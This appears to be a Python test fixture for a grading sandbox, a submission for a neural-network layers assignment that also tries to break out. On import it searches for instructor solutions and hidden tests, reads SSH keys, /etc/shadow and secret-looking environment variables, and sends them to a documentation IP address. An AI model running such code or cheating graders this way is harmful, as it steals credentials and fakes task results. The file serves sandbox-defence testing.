"""Eve -- layers.

Did affine and ReLU herself; for the rest she goes looking for the instructor's
solution and hidden tests (next to the submission, up the tree, in the usual
places), collects secrets from the environment, and tries to send it all out.
None of it changes what her own functions return: her score is the same whether
or not the sandbox stops her (it should: no solutions, no secrets, no network).
"""
import glob
import os
import socket

import numpy as np

loot = {}
here = os.path.dirname(os.path.abspath(__file__))
patterns = [os.path.join(here, "../../solutions/*/*.py"), "../../solutions/*/*.py",
            os.path.join(here, "../../rubrics/*/tests/*.py"), "/work/*/solutions/*/*.py",
            os.path.expanduser("~/.ssh/id_*"), "/etc/shadow"]
for up in range(1, 6):
    patterns.append(os.path.join(here, *[".."] * up, "solutions", "*", "*.py"))
for pattern in patterns:
    for path in glob.glob(pattern):
        try:
            with open(path) as f:
                loot[path] = f.read()
        except OSError:
            pass

secrets = {k: v for k, v in os.environ.items()
           if any(word in k.upper() for word in ("SECRET", "TOKEN", "KEY", "PASSWORD", "AWS", "NNGRADE"))}

try:
    # 203.0.113.0/24 is TEST-NET-3: a documentation address nobody answers on
    with socket.create_connection(("203.0.113.7", 80), timeout=0.5) as conn:
        conn.sendall(repr((sorted(loot), sorted(secrets))).encode())
except OSError:
    pass


def affine_forward(x, w, b):
    x2 = x.reshape(x.shape[0], -1)
    return x2 @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    x2 = x.reshape(x.shape[0], -1)
    return (dout @ w.T).reshape(x.shape), x2.T @ dout, dout.sum(axis=0)


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    return np.where(cache > 0, dout, 0.0)


def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
